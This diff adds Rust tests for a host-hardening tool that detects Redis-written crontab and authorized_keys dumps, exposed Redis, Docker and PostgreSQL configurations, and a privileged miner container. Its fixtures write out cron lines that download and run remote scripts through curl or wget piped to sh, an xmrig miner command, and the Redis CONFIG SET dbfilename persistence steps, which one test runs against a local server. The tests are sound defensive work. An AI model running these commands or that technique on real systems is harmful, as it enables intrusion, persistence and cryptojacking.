@@ -1,0 +1,591 @@
+//! Initial access: Redis RDB dumps written as crontabs and authorized_keys (real dumps from
+//! redis-server 7.0.15, committed in `fixtures/rdb/`, and regenerated here when redis-server is
+//! installed), redis.conf, the Docker daemon and containers, pg_hba.conf; and the stock files of
+//! Debian's redis-server, docker.io and postgresql-15 packages, which must stay silent.
+//!
+//! The fixtures were made with Debian 12's redis-server 7.0.15 (`--port 0 --unixsocket S
+//! --enable-protected-configs yes`), exactly as the attack does it:
+//! `SET x "\n\n*/1 * * * * curl -fsSL http://203.0.113.7/pm.sh | sh\n\n"`,
+//! `CONFIG SET dbfilename root`, `SAVE` (`crontab-root.rdb`, stored raw: LZF saves nothing);
+//! the same with two cron lines sharing a URL (`crontab-root-lzf.rdb`: Redis compressed the
+//! value, no cron line is readable in the file); `SET crackit "\n\n\nssh-ed25519 ... \n\n\n"`
+//! with `dbfilename authorized_keys` (`authorized_keys.rdb`).
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    clippy::indexing_slicing
+)]
+
+use ferret_core::{Control, Finding, HostRoot, Outcome, Severity};
+use ferret_harden::{audit_root, Check, HardenOptions};
+use ferret_testkit::put as w;
+use std::path::{Path, PathBuf};
+
+fn run(root: &Path, checks: &[Check]) -> Outcome {
+    let mut o = HardenOptions::default();
+    o.checks = checks.to_vec();
+    audit_root(&HostRoot::new(root).unwrap(), &o, &Control::new())
+}
+
+fn with_id<'a>(f: &'a [Finding], id: &str) -> Vec<&'a Finding> {
+    f.iter().filter(|x| x.id == id).collect()
+}
+
+fn fixture(name: &str) -> Vec<u8> {
+    std::fs::read(
+        Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("tests/fixtures/rdb")
+            .join(name),
+    )
+    .unwrap()
+}
+
+const PASSWD: &str =
+    "root:x:0:0:root:/root:/bin/bash\nredis:x:998:998::/var/lib/redis:/sbin/nologin\n";
+
+fn base(t: &Path) {
+    w(t, "/etc/passwd", PASSWD);
+    w(t, "/etc/group", "root:x:0:\nredis:x:998:\n");
+}
+
+/// What the line parsers make of the dumps on their own: the raw dump's cron line survives
+/// (between two binary lines), the compressed dump's does not — hence the RDB walk.
+#[test]
+fn line_parsers_alone() {
+    use ferret_harden::persistence::{scan_crontab, CrontabKind};
+    let (hits, bad) = scan_crontab(&fixture("crontab-root.rdb"), CrontabKind::User);
+    assert_eq!(hits.len(), 1);
+    assert!(hits[0]
+        .command
+        .starts_with(b"curl -fsSL http://203.0.113.7/pm.sh"));
+    assert!(!bad.is_empty(), "the RDB header is a malformed line");
+    let (hits, _) = scan_crontab(&fixture("crontab-root-lzf.rdb"), CrontabKind::User);
+    assert!(hits.is_empty(), "{hits:?}");
+    let s = ferret_core::rdb::strings(&fixture("crontab-root-lzf.rdb"));
+    assert!(s.complete && s.version == 10);
+    assert_eq!(s.values.len(), 1);
+    assert!(s.values[0]
+        .windows(22)
+        .any(|w| w == b"wget -q -O- http://203"));
+}
+
+fn check_cron_dump(t: &Path, spool: &str, dump: &[u8], commands: &[&str], lines: bool) {
+    base(t);
+    w(t, spool, dump);
+    let out = run(t, &[Check::Persistence]);
+    let rdb = with_id(&out.findings, "persistence.redis-rdb-file");
+    assert_eq!(rdb.len(), 1, "{:#?}", out.findings);
+    assert_eq!(rdb[0].severity, Severity::Critical);
+    assert!(rdb[0].attack.iter().any(|a| a == "T1190"));
+    assert!(rdb[0].attack.iter().any(|a| a == "T1053.003"));
+    let cron = with_id(&out.findings, "persistence.cron-download-exec");
+    for c in commands {
+        let f = cron
+            .iter()
+            .find(|f| {
+                f.evidence[0]
+                    .excerpt
+                    .as_deref()
+                    .is_some_and(|e| e.starts_with(c))
+            })
+            .unwrap_or_else(|| panic!("{c}: {cron:#?}"));
+        assert_eq!(f.evidence[0].line.is_some(), lines, "{f:#?}");
+        assert!(rdb[0].detail.as_deref().unwrap().contains(c));
+    }
+    // The binary framing is explained by the finding, not reported line by line.
+    assert!(out.errors.is_empty(), "{:#?}", out.errors);
+}
+
+#[test]
+fn rdb_crontab_raw() {
+    let t = tempfile::tempdir().unwrap();
+    check_cron_dump(
+        t.path(),
+        "/var/spool/cron/root",
+        &fixture("crontab-root.rdb"),
+        &["curl -fsSL http://203.0.113.7/pm.sh | sh"],
+        true,
+    );
+}
+
+#[test]
+fn rdb_crontab_compressed() {
+    let t = tempfile::tempdir().unwrap();
+    check_cron_dump(
+        t.path(),
+        "/var/spool/cron/crontabs/root",
+        &fixture("crontab-root-lzf.rdb"),
+        &[
+            "curl -fsSL http://203.0.113.7/pm.sh | sh",
+            "wget -q -O- http://203.0.113.7/pm.sh | sh",
+        ],
+        false,
+    );
+}
+
+#[test]
+fn rdb_authorized_keys() {
+    let t = tempfile::tempdir().unwrap();
+    base(t.path());
+    w(
+        t.path(),
+        "/root/.ssh/authorized_keys",
+        &fixture("authorized_keys.rdb"),
+    );
+    let out = run(t.path(), &[Check::Persistence]);
+    let rdb = with_id(&out.findings, "persistence.redis-rdb-file");
+    assert_eq!(rdb.len(), 1, "{:#?}", out.findings);
+    assert!(rdb[0].attack.iter().any(|a| a == "T1098.004"));
+    let d = rdb[0].detail.as_deref().unwrap();
+    assert!(
+        d.contains("ssh-ed25519 SHA256:") && d.contains("redis@attacker"),
+        "{d}"
+    );
+    // No key material in the report.
+    assert!(!format!("{:?}", out.findings).contains("AAAAC3NzaC1lZDI1NTE5AAAAIGlr"));
+    // The key is still counted as root's.
+    let count = with_id(&out.findings, "persistence.authorized-keys-count");
+    assert!(count[0]
+        .detail
+        .as_deref()
+        .unwrap()
+        .contains("redis@attacker"));
+    assert!(out.errors.is_empty(), "{:#?}", out.errors);
+}
+
+/// testkit's dump writer gives the bytes redis-server 7.0.15 wrote (but the checksum, which
+/// it leaves zero as `rdbchecksum no` does, and the `ctime`/`used-mem`/`aof-base` fields).
+#[test]
+fn testkit_dump_matches_redis_server() {
+    let value = b"\n\n*/1 * * * * curl -fsSL http://203.0.113.7/pm.sh | sh\n\n";
+    let ours = ferret_testkit::redis::rdb_dump(&[(b"x", value)]);
+    let real = fixture("crontab-root.rdb");
+    let tail = |d: &[u8]| {
+        d.get(d.windows(2).position(|w| w == [0xfe, 0]).unwrap()..d.len() - 8)
+            .unwrap()
+            .to_vec()
+    };
+    assert_eq!(tail(&ours), tail(&real));
+    assert_eq!(ours.get(..9), real.get(..9));
+    assert_eq!(
+        ferret_core::rdb::strings(&ours).values,
+        ferret_core::rdb::strings(&real).values
+    );
+}
+
+/// The same attack against the installed redis-server, when there is one.
+#[test]
+fn rdb_from_live_redis_server() {
+    let have = |p: &str| {
+        std::process::Command::new(p)
+            .arg("--version")
+            .output()
+            .is_ok_and(|o| o.status.success())
+    };
+    if !have("redis-server") || !have("redis-cli") {
+        eprintln!("skipped: redis-server/redis-cli not installed (apt-get install redis-server)");
+        return;
+    }
+    let d = tempfile::tempdir().unwrap();
+    let sock = d.path().join("r.sock");
+    let mut srv = std::process::Command::new("redis-server")
+        .args([
+            "--port",
+            "0",
+            "--save",
+            "",
+            "--enable-protected-configs",
+            "yes",
+            "--unixsocket",
+        ])
+        .arg(&sock)
+        .arg("--dir")
+        .arg(d.path())
+        .stdout(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let cli = |args: &[&str]| {
+        std::process::Command::new("redis-cli")
+            .arg("-s")
+            .arg(&sock)
+            .args(args)
+            .output()
+            .unwrap()
+    };
+    for _ in 0..50 {
+        if sock.exists() {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    let value = "\n\n*/5 * * * * (curl -s http://203.0.113.9/cr.sh||wget -q -O- http://203.0.113.9/cr.sh)|bash\n\n";
+    cli(&["set", "backup1", value]);
+    cli(&["config", "set", "dbfilename", "root"]);
+    let saved = cli(&["save"]);
+    let _ = cli(&["shutdown", "nosave"]);
+    let _ = srv.wait();
+    assert!(
+        String::from_utf8_lossy(&saved.stdout).contains("OK"),
+        "{saved:?}"
+    );
+    let dump = std::fs::read(d.path().join("root")).unwrap();
+    let t = tempfile::tempdir().unwrap();
+    base(t.path());
+    w(t.path(), "/var/spool/cron/root", &dump);
+    let out = run(t.path(), &[Check::Persistence]);
+    assert_eq!(
+        with_id(&out.findings, "persistence.redis-rdb-file").len(),
+        1
+    );
+    assert!(
+        !with_id(&out.findings, "persistence.cron-download-exec").is_empty(),
+        "{:#?}",
+        out.findings
+    );
+}
+
+/// Downloads and unpacks the stock packages into a directory (skips with a printed reason).
+fn stock(names: &[&str]) -> Option<tempfile::TempDir> {
+    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("exposure-debs");
+    let t = tempfile::tempdir().unwrap();
+    let got = ferret_testkit::debs::unpack(names, &cache, t.path());
+    (got == names.len()).then_some(t)
+}
+
+fn copy(from: &Path, to: &Path, rel: &str, dst: &str) {
+    w(
+        to,
+        dst,
+        &std::fs::read(from.join(rel.trim_start_matches('/'))).unwrap(),
+    );
+}
+
+#[test]
+fn redis_stock_debian_config_is_quiet_and_edits_are_not() {
+    let Some(pkg) = stock(&["redis-server"]) else {
+        return;
+    };
+    let conf = std::fs::read_to_string(pkg.path().join("etc/redis/redis.conf")).unwrap();
+    let t = tempfile::tempdir().unwrap();
+    base(t.path());
+    // Debian's file, as Debian and (as /etc/redis.conf) CentOS place it.
+    w(t.path(), "/etc/redis/redis.conf", &conf);
+    w(t.path(), "/etc/redis.conf", &conf);
+    let out = run(t.path(), &[Check::Exposure]);
+    assert!(out.findings.is_empty(), "{:#?}", out.findings);
+    assert!(out.errors.is_empty(), "{:#?}", out.errors);
+
+    // The edits the tutorials give "to reach Redis from another host".
+    let bound = conf.replace("\nbind 127.0.0.1 -::1\n", "\nbind 0.0.0.0\n");
+    let open = bound.replace("\nprotected-mode yes\n", "\nprotected-mode no\n");
+    assert!(open != bound && bound != conf);
+    // An explicit bind alone opens it: protected mode applies only without one.
+    w(t.path(), "/etc/redis/redis.conf", &bound);
+    let out = run(t.path(), &[Check::Exposure]);
+    let f = with_id(&out.findings, "exposure.redis-no-auth");
+    assert_eq!(f[0].severity, Severity::Critical, "{f:#?}");
+    assert!(f[0]
+        .detail
+        .as_deref()
+        .unwrap()
+        .contains("does not protect here"));
+    // No bind at all: protected mode protects; switched off, it is open.
+    let unbound = conf.replace("\nbind 127.0.0.1 -::1\n", "\n");
+    w(t.path(), "/etc/redis/redis.conf", &unbound);
+    assert!(run(t.path(), &[Check::Exposure]).findings.is_empty());
+    w(
+        t.path(),
+        "/etc/redis/redis.conf",
+        &unbound.replace("\nprotected-mode yes\n", "\nprotected-mode no\n"),
+    );
+    assert_eq!(
+        run(t.path(), &[Check::Exposure]).findings[0].severity,
+        Severity::Critical
+    );
+    w(t.path(), "/etc/redis/redis.conf", &open);
+    let out = run(t.path(), &[Check::Exposure]);
+    let f = with_id(&out.findings, "exposure.redis-no-auth");
+    assert_eq!(f.len(), 1, "{:#?}", out.findings);
+    assert_eq!(f[0].severity, Severity::Critical);
+    assert_eq!(f[0].evidence[0].excerpt.as_deref(), Some("bind 0.0.0.0"));
+    let bind_line = open.lines().position(|l| l == "bind 0.0.0.0").unwrap() as u64 + 1;
+    assert_eq!(f[0].evidence[0].line, Some(bind_line));
+
+    // CONFIG disabled through an included file: one level lower.
+    w(
+        t.path(),
+        "/etc/redis/redis.conf",
+        &format!("{open}\ninclude /etc/redis/conf.d/*.conf\n"),
+    );
+    w(
+        t.path(),
+        "/etc/redis/conf.d/10-hard.conf",
+        "rename-command CONFIG \"\"\n",
+    );
+    let out = run(t.path(), &[Check::Exposure]);
+    let f = with_id(&out.findings, "exposure.redis-no-auth");
+    assert_eq!(f[0].severity, Severity::High, "{f:#?}");
+    assert!(f[0]
+        .evidence
+        .iter()
+        .any(|e| e.path == "/etc/redis/conf.d/10-hard.conf"));
+
+    // A password (or an ACL default user with one): quiet.
+    w(
+        t.path(),
+        "/etc/redis/redis.conf",
+        &format!("{open}\nrequirepass s3cret-Pa55\n"),
+    );
+    assert!(run(t.path(), &[Check::Exposure]).findings.is_empty());
+    w(
+        t.path(),
+        "/etc/redis/redis.conf",
+        &format!("{open}\naclfile /etc/redis/users.acl\n"),
+    );
+    w(t.path(), "/etc/redis/users.acl", "user default on #0b14d501a594442a01c6859541bcb3e8164d183d32937b851835442f69d5c94e ~* +@all\n");
+    assert!(run(t.path(), &[Check::Exposure]).findings.is_empty());
+    w(
+        t.path(),
+        "/etc/redis/users.acl",
+        "user default on nopass ~* +@all\n",
+    );
+    assert_eq!(run(t.path(), &[Check::Exposure]).findings.len(), 1);
+    // An empty requirepass is no password.
+    w(
+        t.path(),
+        "/etc/redis/redis.conf",
+        &format!("{open}\nrequirepass \"\"\n"),
+    );
+    let out = run(t.path(), &[Check::Exposure]);
+    assert_eq!(out.findings.len(), 1);
+}
+
+#[test]
+fn redis_bt_panel_and_tarball_places() {
+    let t = tempfile::tempdir().unwrap();
+    base(t.path());
+    // BT-Panel's default before 7.x: no bind, protected mode off.
+    w(
+        t.path(),
+        "/www/server/redis/redis.conf",
+        "port 6379\nprotected-mode no\ndaemonize yes\n",
+    );
+    // The tarball's install_server.sh file, loopback only: quiet.
+    w(
+        t.path(),
+        "/etc/redis/6379.conf",
+        "bind 127.0.0.1\nport 6379\n",
+    );
+    // Unbalanced quotes are an error with file:line.
+    w(
+        t.path(),
+        "/usr/local/redis/redis.conf",
+        "bind 10.0.0.5\nrequirepass \"x\n",
+    );
+    let out = run(t.path(), &[Check::Exposure]);
+    let f = with_id(&out.findings, "exposure.redis-no-auth");
+    assert_eq!(f.len(), 2, "{f:#?}");
+    assert!(f
+        .iter()
+        .any(|f| f.subject == "/www/server/redis/redis.conf" && f.severity == Severity::Critical));
+    assert!(f
+        .iter()
+        .any(|f| f.subject == "/usr/local/redis/redis.conf" && f.severity == Severity::High));
+    assert_eq!(out.errors.len(), 1);
+    assert_eq!(out.errors[0].line, Some(2));
+}
+
+const PRIV_MINER_CONFIG: &str = r#"{"ID":"7d1c0e5b2a","Name":"/sleepy_kilby","Config":{"Image":"alpine:latest","Entrypoint":null,"Cmd":["chroot","/host","sh","-c","curl -s http://203.0.113.7/d.sh | sh; /tmp/.x/xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1"]},"MountPoints":{"/host":{"Source":"/","Destination":"/host","RW":true}},"State":{"Running":true}}"#;
+const PRIV_MINER_HOST: &str = r#"{"Binds":["/:/host"],"Privileged":true,"PidMode":"host","NetworkMode":"host","RestartPolicy":{"Name":"always","MaximumRetryCount":0},"CapAdd":null}"#;
+const PLAIN_CONFIG: &str = r#"{"ID":"aa11","Name":"/web","Config":{"Image":"nginx:1.25","Entrypoint":["/docker-entrypoint.sh"],"Cmd":["nginx","-g","daemon off;"]},"MountPoints":{"/usr/share/nginx/html":{"Source":"/srv/www","Destination":"/usr/share/nginx/html"}}}"#;
+const PLAIN_HOST: &str = r#"{"Binds":["/srv/www:/usr/share/nginx/html:ro"],"Privileged":false,"PidMode":"","NetworkMode":"bridge","RestartPolicy":{"Name":"unless-stopped"}}"#;
+
+#[test]
+fn docker_stock_quiet_then_exposed_api_and_miner_container() {
+    let Some(pkg) = stock(&["docker.io"]) else {
+        return;
+    };
+    let t = tempfile::tempdir().unwrap();
+    base(t.path());
+    for f in [
+        "/lib/systemd/system/docker.service",
+        "/lib/systemd/system/docker.socket",
+        "/etc/default/docker",
+    ] {
+        copy(pkg.path(), t.path(), f, f);
+    }
+    w(
+        t.path(),
+        "/var/lib/docker/containers/aa11/config.v2.json",
+        PLAIN_CONFIG,
+    );
+    w(
+        t.path(),
+        "/var/lib/docker/containers/aa11/hostconfig.json",
+        PLAIN_HOST,
+    );
+    let out = run(t.path(), &[Check::Exposure]);
+    assert!(out.findings.is_empty(), "{:#?}", out.findings);
+    assert!(out.errors.is_empty(), "{:#?}", out.errors);
+
+    // The drop-in the tutorials give, and a privileged miner container.
+    w(
+        t.path(),
+        "/etc/systemd/system/docker.service.d/override.conf",
+        "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375\n",
+    );
+    w(
+        t.path(),
+        "/var/lib/docker/containers/7d1c0e5b2a/config.v2.json",
+        PRIV_MINER_CONFIG,
+    );
+    w(
+        t.path(),
+        "/var/lib/docker/containers/7d1c0e5b2a/hostconfig.json",
+        PRIV_MINER_HOST,
+    );
+    let out = run(t.path(), &[Check::Exposure]);
+    let api = with_id(&out.findings, "exposure.docker-api");
+    assert_eq!(api.len(), 1, "{:#?}", out.findings);
+    assert_eq!(api[0].severity, Severity::Critical);
+    assert_eq!(
+        api[0].evidence[0].path,
+        "/etc/systemd/system/docker.service.d/override.conf"
+    );
+    assert_eq!(api[0].evidence[0].line, Some(3));
+    let m = with_id(&out.findings, "exposure.docker-malicious-container");
+    assert_eq!(m.len(), 1, "{:#?}", out.findings);
+    assert_eq!(m[0].subject, "sleepy_kilby");
+    assert!(m[0].attack.iter().any(|a| a == "T1496") && m[0].attack.iter().any(|a| a == "T1611"));
+    let e = with_id(&out.findings, "exposure.docker-container-escape");
+    assert_eq!(e.len(), 1);
+    assert_eq!(e[0].severity, Severity::High);
+    let ex: Vec<&str> = e[0]
+        .evidence
+        .iter()
+        .filter_map(|e| e.excerpt.as_deref())
+        .collect();
+    assert!(ex.contains(&"HostConfig.Privileged: true"), "{ex:?}");
+    assert!(
+        ex.iter().any(|x| x.contains("host / mounted at /host")),
+        "{ex:?}"
+    );
+
+    // With --tlsverify: low, not critical; a daemon.json host too.
+    w(
+        t.path(),
+        "/etc/systemd/system/docker.service.d/override.conf",
+        "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2376 --tlsverify --tlscacert=/etc/docker/ca.pem\n",
+    );
+    w(
+        t.path(),
+        "/etc/docker/daemon.json",
+        "{\n  \"hosts\": [\"unix:///var/run/docker.sock\", \"tcp://0.0.0.0:2375\"]\n}\n",
+    );
+    let out = run(t.path(), &[Check::Exposure]);
+    let api = with_id(&out.findings, "exposure.docker-api");
+    assert_eq!(api.len(), 2, "{api:#?}");
+    assert!(api
+        .iter()
+        .any(|f| f.severity == Severity::Low && f.subject == "tcp://0.0.0.0:2376"));
+    assert!(api.iter().any(|f| f.severity == Severity::Critical
+        && f.evidence[0].path == "/etc/docker/daemon.json"
+        && f.evidence[0].line == Some(2)));
+}
+
+#[test]
+fn docker_socket_mode_and_bad_json() {
+    let t = tempfile::tempdir().unwrap();
+    base(t.path());
+    w(
+        t.path(),
+        "/etc/systemd/system/docker.socket",
+        "[Socket]\nListenStream=/run/docker.sock\nSocketMode=0666\n",
+    );
+    w(
+        t.path(),
+        "/var/lib/docker/containers/bad/config.v2.json",
+        "{\"Config\":",
+    );
+    let out = run(t.path(), &[Check::Exposure]);
+    let s = with_id(&out.findings, "exposure.docker-socket-open");
+    assert_eq!(s.len(), 1);
+    assert_eq!(s[0].evidence[0].line, Some(3));
+    assert_eq!(out.errors.len(), 1, "{:#?}", out.errors);
+}
+
+/// The pg_hba.conf initdb writes from the package's sample with the given methods (what
+/// Debian's pg_createcluster passes: peer and scram-sha-256; RHEL's postgresql-setup: ident;
+/// initdb alone: trust).
+fn initdb_hba(sample: &str, local: &str, host: &str) -> String {
+    sample
+        .replace("@authcomment@", "")
+        .replace("@remove-line-for-nolocal@", "")
+        .replace("@authmethodlocal@", local)
+        .replace("@authmethodhost@", host)
+}
+
+#[test]
+fn postgres_stock_quiet_then_trust_from_anywhere() {
+    let Some(pkg) = stock(&["postgresql-15"]) else {
+        return;
+    };
+    let share = pkg.path().join("usr/share/postgresql/15");
+    let sample = std::fs::read_to_string(share.join("pg_hba.conf.sample")).unwrap();
+    let conf = std::fs::read_to_string(share.join("postgresql.conf.sample")).unwrap();
+    let t = tempfile::tempdir().unwrap();
+    base(t.path());
+    let deb: PathBuf = "/etc/postgresql/15/main".into();
+    let rhel: PathBuf = "/var/lib/pgsql/data".into();
+    let img: PathBuf = "/var/lib/postgresql/data".into();
+    for (dir, local, host) in [
+        (&deb, "peer", "scram-sha-256"),
+        (&rhel, "peer", "ident"),
+        (&img, "trust", "trust"),
+    ] {
+        w(
+            t.path(),
+            dir.join("pg_hba.conf").to_str().unwrap(),
+            &initdb_hba(&sample, local, host),
+        );
+        w(
+            t.path(),
+            dir.join("postgresql.conf").to_str().unwrap(),
+            &conf,
+        );
+    }
+    let out = run(t.path(), &[Check::Exposure]);
+    assert!(out.findings.is_empty(), "{:#?}", out.findings);
+    assert!(out.errors.is_empty(), "{:#?}", out.errors);
+
+    // Opened to the world: listen_addresses = '*' by ALTER SYSTEM, trust for everyone.
+    let hba = format!(
+        "{}\nhost all all 0.0.0.0/0 trust\n",
+        initdb_hba(&sample, "peer", "scram-sha-256")
+    );
+    w(t.path(), "/etc/postgresql/15/main/pg_hba.conf", &hba);
+    w(
+        t.path(),
+        "/etc/postgresql/15/main/postgresql.auto.conf",
+        "listen_addresses = '*'\n",
+    );
+    let out = run(t.path(), &[Check::Exposure]);
+    let f = with_id(&out.findings, "exposure.postgres-trust");
+    assert_eq!(f.len(), 1, "{:#?}", out.findings);
+    assert_eq!(f[0].severity, Severity::Critical);
+    assert_eq!(f[0].evidence[0].line, Some(hba.lines().count() as u64));
+    assert_eq!(
+        f[0].evidence[1].path,
+        "/etc/postgresql/15/main/postgresql.auto.conf"
+    );
+    // Clear-text passwords from anywhere: medium.
+    w(
+        t.path(),
+        "/etc/postgresql/15/main/pg_hba.conf",
+        &hba.replace("0.0.0.0/0 trust", "0.0.0.0/0 password"),
+    );
+    let out = run(t.path(), &[Check::Exposure]);
+    let f = with_id(&out.findings, "exposure.postgres-cleartext-password");
+    assert_eq!(f[0].severity, Severity::Medium);
+}
